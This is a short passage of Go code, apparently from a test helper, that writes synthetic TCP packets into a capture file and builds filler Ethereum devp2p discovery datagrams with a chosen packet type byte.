				w.packet(srv, cli, &layers.TCP{SrcPort: layers.TCPPort(port), DstPort: layers.TCPPort(23000 + i), Seq: ss, Ack: cs, ACK: true, PSH: true, Window: 1024}, p)
				ss += uint32(len(p))
			}
		}
	}
	return w.Path
}

// devp2p is an Ethereum discovery datagram of n bytes with packet type typ.
func devp2p(n int, typ byte) []byte {
	p := bytes.Repeat([]byte{0xa5}, n)
	p[97] = typ
	return p
}
